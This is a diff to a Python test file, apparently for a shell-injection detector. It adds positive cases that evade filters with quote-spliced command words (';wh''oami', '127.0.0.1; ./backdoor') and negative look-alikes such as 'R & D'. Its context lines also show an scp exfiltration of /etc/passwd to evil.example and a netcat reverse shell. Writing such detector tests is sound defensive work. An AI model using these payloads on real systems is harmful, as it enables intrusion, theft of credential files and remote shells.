@@ -93,6 +93,9 @@ CASES: tuple[Case, ...] = (
          "|ssh root@10.0.0.1", "&& scp /etc/passwd me@evil.example:/tmp", ';at 2:00 "echo test"',
          "&&at now", "v='u';cu$v\\r\\l x.example", "x=\"h\";w${x}oami", "`cut x1``dig y2`",
          "`id``whoami`", "; expr 7 \\* 7", "|expr 3482 * 7301", "1|sleep 5", "1&&sleep 5",
+         # Command words spliced by quoting the shell removes; ps with its option words; " & id".
+         ";wh''oami", "|c\\at /etc/hosts", '&& ne""tstat -an', "0;pi\\ng -c 3 127.0.0.1", "$(pyt\\hon -c 'x')",
+         "; ps aux", "|ps -ef", "x & whoami",
          # Here-strings after a separator, alias/unalias, sqlite and vi shell escapes.
          ";irb<<<1+2", ";gcc10.1<<<'void main(){}'", "alias ls-al='ls -al'", "alias -p jzfrx=id", "; unalias -a",
          ";\\n.shell nc 10.0.0.1 6666 -e sh", ";vim -c:\\!pwd", "uname$u -a", "{n$u\\c$u,-nlvp,777}",
@@ -110,7 +113,9 @@ CASES: tuple[Case, ...] = (
          "Meeting moved; at 2:00 we start", "We moved the standup ;at 9:30 now.", "margin:0;top:0",
          "transition: top 0.3s ease;top:0", "email me at bob@example.com; or ssh bob@build01",
          "console.log(`${a} and ${b}`)", "key='value'; other='thing'", "a=1;b=2;c=3",
-         "lunch;at noon", "R&D;top priority", "sizes: S;M;L;XL", "expression 7 * 7 = 49"),
+         "lunch;at noon", "R&D;top priority", "sizes: S;M;L;XL", "expression 7 * 7 = 49",
+         "| ps aux | list processes |", "Sure; I''d love to", "ok; can''t make it", "R & D",
+         "user id & password", "Paths: C:\\Windows;C:\\Program Files\\Git\\bin", "perl's regex; python's re"),
     ),
     Case(
         "UNIXShellCommandsUnquoted",
@@ -193,7 +198,8 @@ CASES: tuple[Case, ...] = (
     Case(
         "UNIXShellStructure",
         ("127.0.0.1;xyz", "x$(tool)", ";./exploit", "|| doit /tmp/x", "';frob;'", "$(<flag.txt)",
-         "foo`xyz`", "&& custombin -x", "; frob > /tmp/x", ";${IFS}x", "a&&xyz&&b"),
+         "foo`xyz`", "&& custombin -x", "; frob > /tmp/x", ";${IFS}x", "a&&xyz&&b", ";ec\\ho p\\wned > /tmp/x",
+         "127.0.0.1; ./backdoor"),
         ("done; see below", "$(document).ready(fn)", "$(this).hide();", "Tom & Jerry -- live",
          "`npm install` then `npm test`", "The parameter 5 is&|.", "/api/v1/items;v=2",
          "Use `a && b` in bash", "| Column | Type |", '"a";"b";"c"', "rock && roll", "Q&A; FAQ",
